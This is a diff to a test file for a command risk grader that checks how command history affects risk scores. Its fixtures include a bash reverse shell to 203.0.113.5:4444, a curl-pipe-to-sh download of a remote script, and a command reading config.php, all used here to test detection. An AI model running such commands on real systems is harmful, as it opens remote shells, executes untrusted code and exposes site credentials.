@@ -187,9 +187,18 @@ describe('context', () => {
     );
   });
 
-  test('lowers what is certain a little only, for a back door can be asked every day', () => {
-    const tree = sh('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1');
-    expect(gradeTree(tree, { history }).risk).toBeGreaterThanOrEqual(73);
+  test.each([
+    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
+    'curl -s http://203.0.113.5/x.sh | sh',
+    'cat config.php; ls -la /var/www',
+  ])('never lowers what is beyond doubt, for a back door can be asked every day: %s', (text) => {
+    const tree = sh(text);
+    expect(gradeTree(tree, { history })).toEqual(gradeTree(tree));
+  });
+
+  test('raises beside other commands what history has lowered', () => {
+    const { risk } = gradeTree(sh('whoami'), { history, neighbours: others });
+    expect(risk).toBeGreaterThan(gradeTree(sh('whoami'), { history }).risk);
   });
 
   test('takes one busy day for no habit', () => {
